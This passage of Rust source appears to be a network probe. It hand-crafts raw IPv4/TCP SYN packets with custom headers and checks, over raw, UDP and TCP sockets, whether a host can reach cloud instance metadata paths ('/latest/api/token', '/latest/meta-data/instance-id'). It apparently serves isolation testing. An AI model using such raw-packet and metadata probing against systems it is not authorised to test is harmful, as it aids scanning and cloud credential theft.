    tcp.extend_from_slice(&p.src.port().to_be_bytes());
    tcp.extend_from_slice(&p.dst.port().to_be_bytes());
    tcp.extend_from_slice(&p.seq.to_be_bytes());
    tcp.extend_from_slice(&p.ack.to_be_bytes());
    tcp.push((((20 + p.options.len()) / 4) as u8) << 4);
    tcp.push(p.flags);
    tcp.extend_from_slice(&WINDOW.to_be_bytes());
    tcp.extend_from_slice(&[0, 0, 0, 0]); // checksum, urgent pointer
    tcp.extend_from_slice(p.options);
    tcp.extend_from_slice(p.payload);
    let sum = transport_checksum(*p.src.ip(), *p.dst.ip(), libc::IPPROTO_TCP as u8, &tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());

    let mut ip = Vec::with_capacity(20 + tcp_len);
    ip.extend_from_slice(&[0x45, 0]); // version 4, 20-byte header; TOS
    ip.extend_from_slice(&((20 + tcp_len) as u16).to_be_bytes());
    ip.extend_from_slice(&fastrand::u16(..).to_be_bytes()); // identification
    ip.extend_from_slice(&[0x40, 0]); // DF, offset 0
    ip.extend_from_slice(&[64, libc::IPPROTO_TCP as u8, 0, 0]); // TTL, protocol, checksum
    ip.extend_from_slice(&p.src.ip().octets());
    ip.extend_from_slice(&p.dst.ip().octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(&tcp);
    ip
}

/// The TCP or UDP checksum of `segment`, whose checksum field is zero:
/// it covers a pseudo-header of the IP addresses, protocol and length.
fn transport_checksum(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, segment: &[u8]) -> u16 {
    let mut pseudo = Vec::with_capacity(12 + segment.len());
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, protocol]);
    pseudo.extend_from_slice(&(segment.len() as u16).to_be_bytes());
    pseudo.extend_from_slice(segment);
    checksum(&pseudo)
}

/// The Internet checksum (RFC 1071).
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], c.get(1).copied().unwrap_or(0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An HTTP response's status and (de-chunked) body.
struct Response {
    status: u16,
    body: String,
}

/// Header names (lowercased) and values, in order.
type Headers = Vec<(String, String)>;

/// Splits a response into status code, headers and body bytes.
fn split_response(raw: &[u8]) -> Option<(u16, Headers, &[u8])> {
    let end = raw.windows(4).position(|w| w == b"\r\n\r\n")?;
    let head = std::str::from_utf8(&raw[..end]).ok()?;
    let mut lines = head.split("\r\n");
    let status = lines.next()?.split_whitespace().nth(1)?.parse().ok()?;
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    Some((status, headers, &raw[end + 4..]))
}

fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
}

fn is_chunked(headers: &[(String, String)]) -> bool {
    header(headers, "transfer-encoding").is_some_and(|v| v.to_ascii_lowercase().contains("chunked"))
}

/// The whole response is in, by its Content-Length or final chunk, so
/// there is no need to wait for the server's FIN.
fn response_complete(raw: &[u8]) -> bool {
    let Some((_, headers, body)) = split_response(raw) else {
        return false;
    };
    if is_chunked(&headers) {
        return body.ends_with(b"0\r\n\r\n");
    }
    header(&headers, "content-length")
        .and_then(|l| l.parse::<usize>().ok())
        .is_some_and(|l| body.len() >= l)
}

/// The status line and body of what arrived (None before a status line).
fn parse_response(raw: &[u8]) -> Option<Response> {
    let (status, headers, body) = split_response(raw)?;
    let body = if is_chunked(&headers) {
        dechunk(body)
    } else if let Some(len) = header(&headers, "content-length").and_then(|l| l.parse().ok()) {
        body[..body.len().min(len)].to_vec()
    } else {
        body.to_vec()
    };
    Some(Response {
        status,
        body: String::from_utf8_lossy(&body).into_owned(),
    })
}

/// The data of a chunked body, as far as it is complete.
fn dechunk(mut body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    while let Some(eol) = body.windows(2).position(|w| w == b"\r\n") {
        let size = std::str::from_utf8(&body[..eol])
            .ok()
            .and_then(|l| usize::from_str_radix(l.split(';').next()?.trim(), 16).ok());
        let Some(size) = size.filter(|&s| s > 0) else {
            break;
        };
        let Some(chunk) = body.get(eol + 2..eol + 2 + size) else {
            break;
        };
        out.extend_from_slice(chunk);
        body = body.get(eol + 4 + size..).unwrap_or_default();
    }
    out
}

// ---------------------------------------------------------------------------
// hdrincl, udp, tcp-connect: what plain sockets allow
// ---------------------------------------------------------------------------

/// SYNs with headers of our own making through an IPPROTO_RAW socket: the
/// kernel neither connects nor routes them through a TCP socket.
fn hdrincl(src: Ipv4Addr, dst: SocketAddrV4, count: u32) -> anyhow::Result<serde_json::Value> {
    let sock = socket2::Socket::new(
        socket2::Domain::IPV4,
        // Type::RAW needs socket2's "all" feature; the number is the same.
        socket2::Type::from(libc::SOCK_RAW),
        Some(socket2::Protocol::from(libc::IPPROTO_RAW)),
    )
    .context("socket(AF_INET, SOCK_RAW, IPPROTO_RAW) (needs CAP_NET_RAW)")?;
    // Raw sockets ignore the port of the address they send to.
    let to = socket2::SockAddr::from(SocketAddrV4::new(*dst.ip(), 0));
    let (mut sent, mut errnos) = (0, Vec::new());
    for _ in 0..count {
        let packet = ipv4_tcp(&TcpPacket {
            src: SocketAddrV4::new(src, fastrand::u16(32768..61000)),
            dst,
            seq: fastrand::u32(..),
            ack: 0,
            flags: SYN,
            options: &[2, 4, 0x05, 0xb4],
            payload: &[],
        });
        match sock.send_to(&packet, &to) {
            Ok(_) => sent += 1,
            Err(e) => errnos.push(e.raw_os_error()),
        }
    }
    Ok(json!({ "mode": "hdrincl", "attempted": count, "sent": sent, "errnos": errnos }))
}

/// Datagrams sent with sendto() on an unconnected UDP socket.
fn udp(dst: SocketAddrV4, count: u32) -> anyhow::Result<serde_json::Value> {
    let sock = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).context("binding a UDP socket")?;
    let (mut sent, mut errnos) = (0, Vec::new());
    for _ in 0..count {
        match sock.send_to(b"PUT /latest/api/token HTTP/1.1\r\n\r\n", dst) {
            Ok(_) => sent += 1,
            Err(e) => errnos.push(e.raw_os_error()),
        }
    }
    Ok(json!({ "mode": "udp", "attempted": count, "sent": sent, "errnos": errnos }))
}

/// An ordinary connect() and GET, all within `timeout`. `errno` is that of
/// a failure other than the timeout, which `timed_out` reports instead.
fn tcp_connect(dst: SocketAddrV4, timeout: Duration) -> serde_json::Value {
    let deadline = Instant::now() + timeout;
    let report = |connected: bool, status: Option<u16>, error: Option<std::io::Error>| {
        let timed_out = error.as_ref().is_some_and(|e| {
            matches!(
                e.kind(),
                std::io::ErrorKind::TimedOut | std::io::ErrorKind::WouldBlock
            )
        });
        let errno = error.filter(|_| !timed_out).and_then(|e| e.raw_os_error());
        json!({
            "mode": "tcp-connect",
            "connected": connected,
            "status": status,
            "errno": errno,
            "timed_out": timed_out,
        })
    };
    let mut stream = match TcpStream::connect_timeout(&SocketAddr::V4(dst), timeout) {
        Ok(s) => s,
        Err(e) => return report(false, None, Some(e)),
    };
    let request = format!(
        "GET /latest/meta-data/instance-id HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        dst.ip()
    );
    let mut response = Vec::new();
    let error = (|| {
        stream.set_write_timeout(Some(timeout))?;
        stream.write_all(request.as_bytes())?;
        let mut buf = [0u8; 4096];
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Err(std::io::ErrorKind::TimedOut.into());
            }
            stream.set_read_timeout(Some(left))?;
            match stream.read(&mut buf)? {
                0 => return Ok(()),
                n => response.extend_from_slice(&buf[..n]),
            }
            if response_complete(&response) {
                return Ok(());
            }
        }
    })()
    .err();
    let status = split_response(&response).map(|(status, _, _)| status);
    report(true, status, error)
}
